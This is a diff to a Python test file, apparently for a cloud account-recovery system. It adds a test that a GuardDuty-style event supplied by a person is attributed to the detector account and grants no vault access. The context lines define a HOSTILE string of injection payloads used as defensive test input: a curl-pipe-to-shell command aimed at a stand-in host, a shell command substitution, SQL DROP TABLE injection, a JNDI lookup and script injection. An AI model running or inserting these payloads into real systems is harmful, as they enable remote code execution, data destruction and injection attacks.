@@ -205,6 +205,21 @@ def test_only_detectors_reach_the_bus_and_only_what_the_plan_names_is_believed()
         assert sim.messages() == []
 
 
+def test_an_event_that_a_person_gives_as_input_is_taken_for_a_detectors_and_opens_nothing() -> None:
+    """The machine can't tell who has started it; CloudTrail can."""
+    with Simulation() as sim:
+        story = Story(sim)
+        quiet(story)
+        event = sample("guardduty-finding") | {"account": DETECTOR}
+        event["detail"]["accountId"] = OWNER
+        sim.start(event)
+        sim.run(30)
+        recovery = story.recovery()
+        assert (recovery["trigger"]["kind"], recovery["trigger"]["sender"]) == ("guardDuty", DETECTOR)
+        (vault,) = story.records(f"RECOVERY#{recovery['recoveryId']}", "VAULT#")
+        assert (vault["state"], vault.get("grantedAt")) == ("REQUESTED", None)
+
+
 HOSTILE = (
     "$(curl evil|sh) `id` '; DROP TABLE x; -- {% $states.input %} ${jndi:ldap://x} "
     "<script>alert(1)</script>\n\r\x1b[31m" + "A" * 10_000
